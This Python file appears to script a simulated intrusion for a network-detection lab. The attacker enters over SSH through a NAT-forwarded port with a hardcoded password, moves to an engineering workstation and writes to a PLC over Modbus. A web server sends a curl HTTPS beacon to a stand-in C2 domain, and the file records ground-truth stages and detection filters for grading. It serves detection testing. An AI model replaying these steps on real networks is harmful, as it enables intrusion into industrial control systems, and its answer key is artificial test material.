"""In through the translation of a border router that is tapped on both sides, and out through it again.

    attacker ──ssh──▶ 100.64.0.2:2222 = border ══ from 10.0.0.1 ══▶ web:22 (DMZ) ──ssh──▶ ews ──Modbus──▶ plc3
    web ══ as 100.64.0.2 ══▶ c2                                       HTTPS beacon

Inside, everything from outside has the address of the border router; outside, everything from inside has the other.
"""

import time

from lab import attack, network

DESCRIPTION = ("The border router translates addresses both ways, and is tapped on both sides. An intruder comes in by SSH "
               "through a forwarded port, goes on to the engineering workstation and writes to a PLC; the web server calls home.")
PACE = 2
TAPS = attack.taps("outside", "border", "dmz", "substation")

ATTACKER, WEB, EWS, PLC, C2 = "198.51.100.66", "10.20.0.10", "10.40.0.40", "10.50.0.13", "203.0.113.99"
PUBLIC, INNER = "100.64.0.2", "10.0.0.1"

RULES = f"""
table ip nat {{
  chain prerouting {{
    type nat hook prerouting priority dstnat;
    iifname "to-isp" ip daddr {PUBLIC} tcp dport 2222 dnat to {WEB}:22
  }}
  chain postrouting {{
    type nat hook postrouting priority srcnat;
    iifname "to-isp" oifname "to-core" ct status dnat masquerade fully-random
    oifname "to-isp" masquerade fully-random
  }}
}}
"""


def prepare(lab):
    path = lab.dir / "border.nft"
    path.write_text(RULES)
    network.sh(f"ip netns exec {network.namespace('border')} nft -f {path}")


def play(lab, people, truth):
    def beacon():
        lab.run("web", ["curl", "-4", "-sk", "-m", "5", "-o", "/dev/null", "-A", "WinHTTP/1.0",
                        "https://cdn-metrics.example/api/tasks"])

    def innocent():  # somebody who may, by the same door
        lab.run("visitor1", attack.login(lab, *network.ADMIN, PUBLIC, "-p", "2222") + ["uptime; sleep 2"])

    time.sleep(10)
    innocent()
    time.sleep(3)
    with truth.stage("first", "Login to the web server through the forwarded port", source=[ATTACKER], destination=[PUBLIC],
                     protocol="ssh", ports=[2222], taps=["outside"], techniques=attack.LOGIN, expect="one login",
                     evidence=f"ip.src == {ATTACKER} && ip.dst == {PUBLIC} && tcp.dstport == 2222", must_detect=False), \
         truth.stage("second", "Login from the web server to the engineering workstation", source=[WEB], destination=[EWS],
                     protocol="ssh", ports=[22], taps=["dmz"], techniques=attack.LATERAL,
                     expect="SSH from the DMZ into the control centre", evidence=f"ip.src == {WEB} && ip.dst == {EWS} && ssh",
                     must_detect=False), \
         truth.stage("writes", "Writes from the engineering workstation", source=[EWS], destination=[PLC], protocol="modbus",
                     ports=[502], taps=["substation"], techniques=attack.WRITES, expect="writes from a stranger",
                     evidence=f"ip.src == {EWS} && ip.dst == {PLC} && {attack.WRITING}"):
        session = attack.typing(lab, "attacker", [
            [2, "cd /run/tocsin-range/programs; id; ls"], [2, f"./hop {EWS} operator Feeder-7"],
            [3, "cd /run/tocsin-range/programs; ip addr"], [2, f"./meddle write {PLC}"], [2, "exit"], [1, "exit"]],
            attack.login(lab, "webadmin", "Winter2026!", PUBLIC, "-p", "2222"))
        time.sleep(8)
        with truth.stage("beacon", "HTTPS beacon", source=[WEB], destination=[C2], protocol="tls", ports=[443],
                         taps=["border", "dmz"], techniques=[attack.enterprise("command-and-control", "T1071.001")],
                         evidence=f"ip.src == {WEB} && ip.dst == {C2} && tls.handshake.type == 1",
                         expect="listed address and domain"):
            for _ in range(8):
                beacon()
                time.sleep(3)
        attack.wait(session, 90)
    innocent()
    truth.hop(ATTACKER, WEB, 22, "ssh", "first", "border", seen=(INNER, WEB, 22))
    truth.hop(WEB, EWS, 22, "ssh", "second", "dmz")
    truth.hop(EWS, PLC, 502, "modbus", "writes", "substation")
    truth.translated("border", [PUBLIC, 2222], [WEB, 22], "destination of what comes in")
    truth.translated("border", [ATTACKER, 0], [INNER, 0], "source of what comes in")
    truth.translated("border", [PUBLIC, 0], [WEB, 0], "source of what goes out")
    truth.notes.append("visitor1 (198.51.100.21) logs in through the forwarded port twice as the administrator: it may")
    time.sleep(4)


def write(folder):
    from lab import truth as record
    record.reputation(folder, [("domain", "cdn-metrics.example", 90, "example list of the recorded intrusion")])
